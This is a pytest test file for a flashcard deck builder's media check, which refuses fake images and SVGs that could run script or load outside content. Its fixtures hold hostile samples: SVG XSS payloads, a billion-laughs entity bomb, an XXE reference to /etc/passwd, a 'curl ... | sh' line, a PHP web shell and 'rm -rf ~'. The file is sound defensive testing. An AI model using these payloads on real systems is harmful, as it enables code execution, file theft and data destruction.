"""Media checked by content (deckbuild/mediacheck.py): what `check` and `build` refuse, and what they let ship.

A file that ships is in every learner's media folder and is opened by Anki's webview and by
the preview site: a `.png` must be a PNG, and an SVG must neither run script nor load from
elsewhere.  Each refusal names the file and, in an SVG, the element at its line:col.
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from conftest import PROJECTS, REPO, copy_project, write_tree
from images import SVG, png
from PIL import Image

from deckbuild.mediacheck import RASTER_FORMATS, checked, refusals

NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
DECK = "name: Media\nnamespace: media\nversion: 1.0.0\n"


def _svg(body: str, attrs: str = "") -> bytes:
    return f"<svg {NS} {XLINK}{attrs}>\n  {body}\n</svg>\n".encode()


def _codes(name: str, data: bytes) -> list[tuple[str, int, int]]:
    return [(r.code, r.line, r.col) for r in refusals(name, data)]


def _image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (3, 2), (200, 30, 30)).save(out, fmt)
    return out.getvalue()


# --- SVG --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "attrs", "code", "says"),
    [
        ("<script>alert(1)</script>", "", "E275", "<script> element"),
        ('<script xlink:href="x.js"/>', "", "E275", "<script> element"),
        ('<rect width="4" height="4" onclick="alert(1)"/>', "", "E275", "onclick= on <rect>"),
        ("<rect/>", ' onload="alert(1)"', "E275", "onload= on <svg>"),
        ('<a href="javascript:alert(1)"><rect/></a>', "", "E275", "holds a script URL"),
        ('<a xlink:href=" JaVa&#x09;ScRiPt:alert(1)"><rect/></a>', "", "E275", "holds a script URL"),
        ('<a><set attributeName="href" to="https://example.invalid/"/></a>', "", "E275", "<set> animates 'href'"),
        ('<rect><animate attributeName="onmouseover" to="alert(1)"/></rect>', "", "E275", "animates 'onmouseover'"),
        (
            '<image href="https://example.invalid/t.png" width="4" height="4"/>',
            "",
            "E276",
            "refers to 'https://example.invalid/t.png'",
        ),
        ('<image xlink:href="other.png"/>', "", "E276", "xlink:href= on <image>"[6:]),
        ('<image href="data:image/png;base64,AAAA"/>', "", "E276", "expected a #fragment"),
        ('<use href="sprites.svg#icon"/>', "", "E276", "refers to 'sprites.svg#icon'"),
        ('<rect style="fill: url(https://example.invalid/p)"/>', "", "E276", "style= on <rect>: url(https://example.invalid/p)"),
        ('<rect fill="url(other.svg#g)"/>', "", "E276", "fill= on <rect>: url(other.svg#g)"),
        ("<style>@import 'https://example.invalid/a.css';</style>", "", "E276", "<style> element: @import"),
        ("<style>rect { fill: url('x.png') }</style>", "", "E276", "<style> element: url(x.png)"),
        ("<style>rect { fill: u\\72l(x.png) }</style>", "", "E276", "CSS escapes"),
        ("<foreignObject><div>html</div></foreignObject>", "", "E277", "<foreignObject> element"),
    ],
)
def test_an_svg_that_could_run_or_load_is_refused_at_the_element(body: str, attrs: str, code: str, says: str) -> None:
    found = refusals("d.svg", _svg(body, attrs))
    assert [r.code for r in found][:1] == [code], found
    assert says in found[0].message, found[0].message
    assert found[0].line == (1 if attrs else 2) and found[0].col >= (1 if attrs else 3)


def test_declarations_are_refused_before_any_entity_expands() -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY l0 "lol">{laughs}]>\n<svg {NS}>&l9;</svg>'.encode()
    assert [r.code for r in refusals("bomb.svg", bomb)] == ["E274"]
    external = f'<!DOCTYPE svg SYSTEM "file:///etc/passwd">\n<svg {NS}/>'.encode()
    assert [(r.code, r.line) for r in refusals("x.svg", external)] == [("E274", 1)]
    sheet = f'<?xml-stylesheet href="https://example.invalid/a.css"?>\n<svg {NS}/>'.encode()
    assert _codes("s.svg", sheet) == [("E276", 1, 1)]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>', "not well-formed XML: mismatched tag"),
        (b"", "not well-formed XML"),
        (b"\xff\xfe\x00garbage", "not well-formed XML"),
        (b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>', "undefined entity"),
        (b"<html><body>hello</body></html>", "expected an <svg> root element"),
        (b"<svg><rect/></svg>", "got <svg> without the SVG namespace"),
    ],
)
def test_an_svg_that_is_not_an_svg_document_is_refused(data: bytes, says: str) -> None:
    [found] = refusals("x.svg", data)
    assert found.code == "E273" and says in found.message, found


def test_fragments_and_the_shipped_svg_pass() -> None:
    fine = _svg(
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient><path id="p" d="M0 0"/></defs>'
        "<style>rect { fill: url(#g); } /* url(http://in-a-comment) */</style>"
        '<use href="#p"/><use xlink:href="#p"/><rect fill="url(#g)" style="stroke: url( \'#g\' )"/>'
        '<text font-family="DejaVu Sans">on-line: onward</text><a href="#top"><title>About</title></a>'
    )
    assert refusals("fine.svg", fine) == []
    assert refusals("x.svg", SVG) == []
    assert refusals("pre-post-norm.svg", (REPO / "media" / "pre-post-norm.svg").read_bytes()) == []


# --- raster images ----------------------------------------------------------------------


@pytest.mark.parametrize("suffix", sorted(RASTER_FORMATS))
def test_a_raster_image_must_be_what_its_name_says(suffix: str) -> None:
    fmt = RASTER_FORMATS[suffix]
    assert refusals(f"a{suffix}", _image(fmt)) == []
    other = "GIF" if fmt != "GIF" else "PNG"
    [wrong] = refusals(f"a{suffix}", _image(other))
    assert (wrong.code, wrong.message) == (
        "E270",
        f"expected {fmt} image data (the name ends in {suffix}); got {other} image data",
    )
    [script] = refusals(f"fake{suffix}", b"#!/bin/sh\nrm -rf ~\n")
    assert script.code == "E270" and script.message.endswith("got a script beginning '#!/bin/sh'")
    assert refusals(f"a{suffix.upper()}", _image(fmt)) == []  # the extension's case does not matter


def test_damaged_empty_and_oversized_images_are_refused() -> None:
    good = png(5, 8, 8)
    assert _codes("cut.png", good[:-20]) == [("E271", 0, 0)]
    assert _codes("head.png", good[:20]) == [("E271", 0, 0)]
    broken_crc = good[:-5] + bytes([good[-5] ^ 1]) + good[-4:]
    assert _codes("crc.png", broken_crc) == [("E271", 0, 0)]
    [empty] = refusals("empty.jpg", b"")
    assert empty.code == "E270" and empty.message.endswith("got an empty file")

    # A header claiming 30000 x 30000 pixels over a few bytes of data: refused unread.
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    assert _codes("bomb.png", bomb) == [("E272", 0, 0)]


def test_other_media_are_not_checked_by_content() -> None:
    assert not checked("taberu.mp3") and not checked("_font.woff2") and checked("X.SVG") and checked("a.jpeg")
    assert refusals("taberu.mp3", b"#!/bin/sh\n") == []


def test_every_image_the_repo_and_its_fixtures_ship_passes() -> None:
    files = [p for p in (REPO / "media").iterdir()] + [p for p in PROJECTS.glob("*/media/*")]
    files += [p for p in (REPO / "tests" / "corpus").glob("*/media/**/*") if not p.parent.parent.name.startswith("media-")]
    checked_files = [p for p in files if p.is_file() and checked(p.name)]
    assert len(checked_files) >= 4
    assert {p.name: refusals(p.name, p.read_bytes()) for p in checked_files} == {p.name: [] for p in checked_files}


def test_every_generated_diagram_passes(shipped_project: Path) -> None:
    """The shipped deck's diagrams, as drawn into the cache (each was checked once, when drawn)."""
    drawn = sorted((shipped_project / ".deckbuild-cache" / "diagrams").glob("*.png"))
    assert len(drawn) >= 20
    assert [p.name for p in drawn if refusals(p.name, p.read_bytes())] == []


# --- the commands ------------------------------------------------------------------------


def _deckbuild(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "DECKBUILD_DEBUG"}
    return subprocess.run(
        [sys.executable, "-m", "deckbuild.cli", *args, "-C", str(project)], capture_output=True, text=True, timeout=120, env=env
    )


def _card(card_id: str, file: str) -> str:
    return (
        f"- id: {card_id}\n  question: {card_id}?\n  answer: Yes.\n  difficulty: easy\n  topics: [foundations::text]\n"
        f"  image:\n    file: {file}\n    alt: A picture.\n"
    )


def test_check_and_build_refuse_a_fake_png_and_a_scripted_svg_naming_each_file(tmp_path: Path) -> None:
    evil = _svg('<rect width="4" height="4" onload="alert(1)"/>\n  <script>alert(2)</script>')
    project = write_tree(
        tmp_path / "deck",
        {
            "deck.yaml": DECK,
            "cards/a.yaml": _card("fake", "fake.png")
            + _card("evil", "evil.svg")
            + _card("again", "evil.svg")
            + _card("fine", "fine.png"),
            "media/fake.png": b"#!/bin/sh\ncurl https://example.invalid/x | sh\n",
            "media/evil.svg": evil,
            "media/fine.png": png(3),
        },
    )
    for command in ("check", "build"):
        result = _deckbuild(project, command)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        lines = [line for line in result.stderr.splitlines() if " E27" in line]
        assert lines == [
            "cards/a.yaml:7:5: E270 card 'fake': image 'fake.png': expected PNG image data (the name ends in .png); "
            "got a script beginning '#!/bin/sh'",
            "media/evil.svg:2:3: E275 card 'evil': image 'evil.svg': onload= on <rect>: an event handler runs script; remove it",
            "media/evil.svg:3:3: E275 card 'evil': image 'evil.svg': <script> element: an SVG on a card must not run script; "
            "remove it",
        ], result.stderr  # the SVG two cards show is reported once
    assert not (project / "dist").exists() and not (project / "deckbuild.lock").exists()


def test_a_declared_note_types_field_and_template_files_are_checked_too(tmp_path: Path) -> None:
    declared = copy_project("declared", tmp_path)
    (declared / "media" / "miru.png").write_bytes(b"<?php system($_GET['c']); ?>")
    (declared / "media" / "_mark-v1.svg").write_bytes(_svg("<foreignObject/>"))
    css = declared / "notetypes" / "vocab" / "style.css"
    css.write_text(".word { background: url('_mark-v1.svg'); }\n" + css.read_text("utf-8"), "utf-8")
    result = _deckbuild(declared, "check")
    assert result.returncode == 1, result.stderr
    found = [line for line in result.stderr.splitlines() if " E27" in line]
    assert len(found) == 2, result.stderr
    assert found[0].startswith("cards/verbs.yaml:") and "E270 card 'miru': field 'Meaning': media 'miru.png': " in found[0]
    assert found[0].endswith("got text beginning \"<?php system($_GET['c'])\"")
    assert found[1] == (
        "media/_mark-v1.svg:2:3: E277 note type 'vocab': template file '_mark-v1.svg': <foreignObject> element: it embeds "
        "HTML, which the SVG checks do not cover; remove it"
    )


def test_a_drawn_picture_the_check_refuses_never_enters_the_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No generator draws a bad PNG, so the drawing step is replaced by one that returns other bytes:
    what is checked is that materialize refuses them (E131 names the check's code) and caches nothing."""
    from deckbuild.diagrams import cache as diagram_cache
    from deckbuild.diagrams.keys import cache_key
    from deckbuild.diagrams.registry import project_registry

    registry = project_registry(Path(__file__).resolve().parents[1]).diagrams
    drawn = {"warmup-cosine": b"#!/bin/sh\n", "grad-clipping": png(4)}
    monkeypatch.setattr(
        diagram_cache, "draw_in_workers", lambda todo, _workers, _progress: [drawn[info.name] for info, _p in todo]
    )
    specs = [("warmup-cosine", None), ("grad-clipping", None)]
    with pytest.raises(diagram_cache.DiagramFailures) as caught:
        diagram_cache.materialize(registry, specs, tmp_path, jobs=1)
    key = cache_key(registry, "warmup-cosine")
    assert list(caught.value.failures) == [key]
    code, message = caught.value.failures[key]
    assert code == "E131" and "drew an image the media check refuses: E270 expected PNG image data" in message
    assert [p.name.split("-")[0] for p in tmp_path.glob("*.png")] == ["grad"]  # only the good one is cached
    assert not (tmp_path / f"{key}.txt").exists()


def test_a_no_op_build_reads_no_image_and_loads_neither_pillow_nor_the_check(sample: Path) -> None:
    assert _deckbuild(sample, "build", "-q").returncode == 0
    env = {k: v for k, v in os.environ.items() if k != "DECKBUILD_DEBUG"}
    again = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "deckbuild.cli", "build", "-C", str(sample)],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )
    assert again.returncode == 0 and "up to date" in again.stdout, again.stdout + again.stderr
    imported = {line.rsplit("|", 1)[-1].strip() for line in again.stderr.splitlines() if line.startswith("import time:")}
    assert {"PIL", "PIL.Image", "matplotlib", "deckbuild.mediacheck"} & imported == set()
